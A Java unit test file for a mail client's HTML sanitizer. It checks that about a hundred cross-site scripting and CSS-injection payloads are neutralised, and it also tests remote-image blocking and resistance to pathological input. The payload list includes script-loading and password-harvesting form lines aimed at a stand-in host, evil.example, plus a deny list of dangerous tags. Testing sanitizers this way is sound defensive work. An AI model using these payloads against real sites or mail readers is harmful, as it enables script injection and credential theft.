package postern.mime.html;

import static org.assertj.core.api.Assertions.assertThat;
import static postern.mime.html.SafeHtml.RemoteContent.ALLOW;
import static postern.mime.html.SafeHtml.RemoteContent.BLOCK;

import java.util.Locale;
import java.util.Set;
import org.jsoup.Jsoup;
import org.jsoup.nodes.Attribute;
import org.jsoup.nodes.Element;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.Timeout;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

class SafeHtmlTest {

    private static final Set<String> HARMFUL =
            Set.of(
                    "script",
                    "style",
                    "noscript",
                    "iframe",
                    "frame",
                    "frameset",
                    "object",
                    "embed",
                    "applet",
                    "form",
                    "input",
                    "button",
                    "textarea",
                    "select",
                    "svg",
                    "math",
                    "meta",
                    "base",
                    "link",
                    "template",
                    "title",
                    "xmp",
                    "plaintext",
                    "noembed",
                    "noframes",
                    "audio",
                    "video",
                    "source",
                    "portal",
                    "marquee",
                    "isindex");

    @ParameterizedTest
    @ValueSource(
            strings = {
                "<script>alert(1)</script>",
                "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
                "<scr<script>ipt>alert(1)</scr</script>ipt>",
                "<script>alert(1)",
                "<<script>alert(1);//<</script>",
                "<script/x>alert(1)</script>",
                "<img src=x onerror=alert(1)>",
                "<img src=x onerror\n=\n'alert(1)'>",
                "<img/src=x/onerror=alert(1)>",
                "<img src='x'onerror='alert(1)'>",
                "<img \"\"\"><script>alert(1)</script>\">",
                "<img src=javascript:alert(1)>",
                "<img src=`javascript:alert(1)`>",
                "<img src='data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+'>",
                "<img src='data:text/html,<script>alert(1)</script>'>",
                "<img src='data:image/png,<script>alert(1)</script>'>",
                "<img src=x srcset='https://evil.example/x 1x, javascript:alert(1) 2x'>",
                "<body onload=alert(1)>",
                "<div onclick=alert(1) onmouseover=alert(1)>x</div>",
                "<a href='javascript:alert(1)'>x</a>",
                "<a href='JaVaScRiPt:alert(1)'>x</a>",
                "<a href='java\tscript:alert(1)'>x</a>",
                "<a href='java&#10;script:alert(1)'>x</a>",
                "<a href='&#106;&#97;vascript:alert(1)'>x</a>",
                "<a href='&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)'>x</a>",
                "<a href=' \u0001javascript:alert(1)'>x</a>",
                "<a href='vbscript:msgbox(1)'>x</a>",
                "<a href='data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='>x</a>",
                "<a href='file:///etc/passwd'>x</a>",
                "<a href='//evil.example/'>x</a>",
                "<a href='/relative'>x</a>",
                "<svg onload=alert(1)>",
                "<svg><script>alert(1)</script></svg>",
                "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
                "<svg><style><img src=x onerror=alert(1)></style></svg>",
                "<math><mi//xlink:href='data:x,<script>alert(1)</script>'>",
                "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1"
                        + " onerror=alert(1)&gt;'>",
                "<style>@import 'https://evil.example/x.css';</style>",
                "<style><img src='</style><img src=x onerror=alert(1)>'></style>",
                "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
                "<noscript><style></noscript><script>alert(1)</script>",
                "<textarea><img title='</textarea><img src=x onerror=alert(1)>'></textarea>",
                "<title><img title='</title><img src=x onerror=alert(1)>'></title>",
                "<xmp><p title='</xmp><script>alert(1)</script>'></xmp>",
                "<select><style></select><script>alert(1)</script>",
                "<template><script>alert(1)</script></template>",
                "<iframe src='javascript:alert(1)'></iframe>",
                "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
                "<object data='javascript:alert(1)'></object>",
                "<embed src='javascript:alert(1)'>",
                "<form action='https://evil.example/'><input name=password><button>go</button></form>",
                "<input autofocus onfocus=alert(1)>",
                "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
                "<base href='https://evil.example/'>",
                "<link rel=stylesheet href='https://evil.example/x.css'>",
                "<video><source onerror=alert(1)></video>",
                "<audio src=x onerror=alert(1)>",
                "<details open ontoggle=alert(1)>x</details>",
                "<marquee onstart=alert(1)>x</marquee>",
                "<div style='width:expression(alert(1))'>x</div>",
                "<div style='background:url(javascript:alert(1))'>x</div>",
                "<div style='background:url(&quot;https://a.example/&#39;);behavior:url(x)&quot;)'>x</div>",
                "<div style='-moz-binding:url(https://evil.example/x.xml#a)'>x</div>",
                "<div style='position:fixed;top:0;left:0;z-index:9'>x</div>",
                "<div style='color:red;b\\65havior:url(x)'>x</div>",
                "<div style=\"font-family:'a\\27;background:url(javascript:x)'\">x</div>",
                "<table background='javascript:alert(1)'><tr><td>x</td></tr></table>",
                "<!--<img src='--><img src=x onerror=alert(1)>'>",
                "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
                "<![CDATA[<script>alert(1)</script>]]>",
                "<?xml version='1.0'?><script>alert(1)</script>",
                "<a href='https://a.example/\"onmouseover=\"alert(1)'>x</a>",
                "<p id=location name=cookie class=x>x</p>",
                "<x onclick=alert(1)>x</x>",
                "<a\u0000 href='javascript\u0000:alert(1)'>x</a>",
                "<img src=x:alert(1) onerror=eval(src)>",
                "</title><script>alert(1)</script>",
                "<a href='java&Tab;script:alert(1)'>x</a>",
                "<a href='java&NewLine;script&colon;alert(1)'>x</a>",
                "<a href='\u00A0javascript:alert(1)'>x</a>",
                "<a href='https://a.example/' style='position:fixed;inset:0;opacity:0'>x</a>",
                "<div style='p\\6fsition:fixed;top:0'>x</div>",
                "<div style='position:/**/fixed'>x</div>",
                "<div style='background-image:url(data:text/html;base64,PHNjcmlwdD4=)'>x</div>",
                "<div style='background:u\\72l(javascript:alert(1))'>x</div>",
                "<div style='background:image-set(\"https://t.example/x\" 1x)'>x</div>",
                "<div style='content:url(https://t.example/x)'>x</div>",
                "<p style='color:red}body{position:fixed'>x</p>",
                "<img src=x lowsrc='javascript:alert(1)' dynsrc='javascript:alert(1)'>",
                "<img src='cid:x' usemap='#m'><map name=m><area href='javascript:alert(1)'></map>",
                "<a href='https://a.example/' ping='https://t.example/'>x</a>",
                "<meta http-equiv='Content-Security-Policy' content='script-src *'>",
                "<meta charset='utf-7'>+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
                "\"><script>alert(1)</script>",
            })
    void letsNoAttackThrough(String html) {
        for (var remote : SafeHtml.RemoteContent.values()) {
            var safe = SafeHtml.of(html, remote).html();

            assertThat(safe)
                    .doesNotContainIgnoringCase("<script", "<style", "<noscript", "<svg", "<!--");
            Jsoup.parse(safe).body().getAllElements().forEach(SafeHtmlTest::assertHarmless);
            assertThat(SafeHtml.of(safe, remote).html()).isEqualTo(safe);
        }
    }

    private static void assertHarmless(Element element) {
        assertThat(HARMFUL).doesNotContain(element.normalName());
        for (Attribute attribute : element.attributes()) {
            var name = attribute.getKey().toLowerCase(Locale.ROOT);
            var value = attribute.getValue().toLowerCase(Locale.ROOT);
            assertThat(name).doesNotStartWith("on");
            assertThat(name)
                    .isNotIn("srcset", "srcdoc", "action", "formaction", "id", "name", "class");
            switch (name) {
                case "href" -> assertThat(value).matches("(https?|mailto|tel):.*");
                case "src", "background" ->
                        assertThat(value)
                                .matches(
                                        "(https?:|cid:|data:image/(png|gif|jpe?g|webp);base64,).*");
                case "style" ->
                        assertThat(withoutUrls(value))
                                .doesNotContain("expression", "javascript:", "behavior", "binding")
                                .doesNotContain("position:", "z-index", "@import", "\\");
                default -> assertThat(value).doesNotContain("javascript:alert");
            }
        }
    }

    /**
     * Removes quoted URLs: their content is not CSS if they contain no quote and have a safe
     * scheme.
     */
    private static String withoutUrls(String style) {
        return style.replaceAll("url\\('(https?:|cid:|data:image/)[^'()]*'\\)", "");
    }

    @ParameterizedTest
    @CsvSource(
            delimiter = '|',
            quoteCharacter = '`',
            value = {
                "<p align=\"center\">x</p> | <p align=\"center\">x</p>",
                "<b>x</b><i>y</i> | <b>x</b><i>y</i>",
                "<font color=\"red\" face=\"Arial\" size=\"2\">x</font> | <font color=\"red\" face=\"Arial\" size=\"2\">x</font>",
                "<table width=\"600\" cellpadding=\"0\" bgcolor=\"#ffffff\"><tr><td colspan=\"2\" valign=\"top\">x</td></tr></table> | <table width=\"600\" cellpadding=\"0\" bgcolor=\"#ffffff\"><tbody><tr><td colspan=\"2\" valign=\"top\">x</td></tr></tbody></table>",
                "<div style=\"color:#333;font-size:14px;max-width:600px\">x</div> | <div style=\"color:#333;font-size:14px;max-width:600px\">x</div>",
                "<ol start=\"3\"><li>x</li></ol> | <ol start=\"3\"><li>x</li></ol>",
                "<img src=\"cid:a@b\" width=\"3\"> | <img src=\"cid:a&#64;b\" width=\"3\" />",
                "<img src=\"data:image/png;base64,iVBORw0KGgo=\"> | <img src=\"data:image/png;base64,iVBORw0KGgo&#61;\" />",
                "<body bgcolor=\"#eee\"><p>x</p></body> | <div bgcolor=\"#eee\"><p>x</p></div>",
            })
    void keepsWhatMailLooksLike(String html, String kept) {
        assertThat(SafeHtml.of(html, BLOCK).html()).isEqualTo(kept);
        assertThat(SafeHtml.of(html, BLOCK).blockedRemoteContent()).isZero();
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "https://example.org/?a=b",
                "http://example.org/",
                "mailto:a@example.org",
                "tel:+49123"
            })
    void opensLinksElsewhereAndUntold(String url) {
        var link =
                Jsoup.parse(SafeHtml.of("<a href='" + url + "' target=_top>x</a>", BLOCK).html())
                        .expectFirst("a");

        assertThat(link.attr("href")).isEqualTo(url);
        assertThat(link.attr("target")).isEqualTo("_blank");
        assertThat(link.attr("rel").split(" ")).contains("noopener", "noreferrer", "nofollow");
    }

    @Test
    void blocksAndCountsRemoteContent() {
        var html =
                "<body background='http://t.example/0'><img src='https://t.example/1' alt='a'>"
                        + "<img src='//t.example/2'><img src='cid:3'><IMG SRC=' HTTPS://t.example/4 '>"
                        + "<table background='http://t.example/5'><tr><td style='color:red;background:"
                        + "url(https://t.example/6) no-repeat;background-image:url(\"//t.example/7\")'>x"
                        + "</td></tr></table><ul style=\"list-style-image:url('http://t.example/8?;)\')\">";

        var safe = SafeHtml.of(html, BLOCK);

        assertThat(safe.blockedRemoteContent()).isEqualTo(8);
        assertThat(safe.html())
                .doesNotContainIgnoringCase("t.example")
                .contains("cid:3", "alt=\"a\"", "color:red");
    }

    @Test
    void leadsReferencesToTheMessagesOwnParts() {
        var parts = new InlineParts(part -> "parts/" + part);
        parts.add("Logo+1@example.org", null, "2");
        parts.add(null, "http://example.org/a.gif", "3");
        parts.add(null, "image.png", "4");
        var html =
                "<img src='cid:logo%2B1@example.org'><img src='CID:Logo+1@example.org'>"
                        + "<img src='http://example.org/a.gif'><img src='image.png'>"
                        + "<img src='cid:nobody@example.org'><img src='other.png'>"
                        + "<p style='background:url(cid:Logo+1@example.org)'>x</p>"
                        + "<img src='cid:located-9'>";

        var safe = SafeHtml.of(html, BLOCK, parts);

        assertThat(safe.blockedRemoteContent()).isZero();
        assertThat(Jsoup.parse(safe.html()).select("img[src]").eachAttr("src"))
                .containsExactly("parts/2", "parts/2", "parts/3", "parts/4");
        assertThat(Jsoup.parse(safe.html()).expectFirst("p").attr("style"))
                .contains("url('parts/2')");
    }

    @ParameterizedTest
    @CsvSource(
            delimiter = '|',
            quoteCharacter = '`',
            value = {
                "<p>x</p> | false",
                "<p style='margin:0'>x</p> | false",
                "<font color=red>x</font> | true",
                "<p style='color:#000'>x</p> | true",
                "<p style='background:#fff'>x</p> | true",
                "<body bgcolor=white>x</body> | true",
                "<table background='http://t.example/'><tr><td>x</table> | true",
            })
    void knowsWhetherTheMailBringsColours(String html, boolean coloured) {
        assertThat(SafeHtml.of(html, BLOCK).coloured()).isEqualTo(coloured);
    }

    @Test
    void showsRemoteContentWhenAllowed() {
        var html =
                "<img src='https://t.example/1?a=b&amp;c'><img src='//t.example/2'>"
                        + "<p style='background-image:url(https://t.example/3)'>x</p>";

        var safe = SafeHtml.of(html, ALLOW);

        assertThat(safe.blockedRemoteContent()).isZero();
        var images = Jsoup.parse(safe.html()).select("img");
        assertThat(images.eachAttr("src"))
                .containsExactly("https://t.example/1?a=b&c", "https://t.example/2");
        assertThat(safe.html()).contains("https://t.example/3");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {"", "<", "<a", "<a href='", "</p></p>", "\0", "<!--", "&", "&#;", "\uD800"})
    void makesDoWithAnything(String html) {
        assertThat(SafeHtml.of(html, BLOCK).blockedRemoteContent()).isZero();
    }

    @Timeout(30) // guards against deep recursion and quadratic time
    @ParameterizedTest
    @ValueSource(
            strings = {
                "<div>",
                "<b>",
                "<blockquote>",
                "<ul><li>",
                "<table><tr><td>",
                "<a href='https://x/'>",
                "<font color=red>",
                "<p>",
                "<svg>",
                "<style>",
                "<script>",
                "<noscript>",
                "<",
                "</p>",
                "<!--",
                "<b><p>",
                "<form>",
                "&",
                "<img src=cid:x>",
                "<select>",
                "<object>"
            })
    void survivesThirtyThousandNestedTags(String tag) {
        assertThat(SafeHtml.of(tag.repeat(30_000), BLOCK).blockedRemoteContent()).isZero();
    }

    @Timeout(30) // guards against quadratic time
    @ParameterizedTest
    @ValueSource(strings = {"url(", "a:b;", "\\", "url('http://x/')", "(", "\"", "/*"})
    void survivesAStyleOfHundredsOfKilobytes(String piece) {
        var style = "color:red;background:" + piece.repeat(300_000 / piece.length());

        assertThat(
                        SafeHtml.of(
                                        "<p style=\"" + style.replace("\"", "&quot;") + "\">x</p>",
                                        BLOCK)
                                .html())
                .contains("x");
    }
}
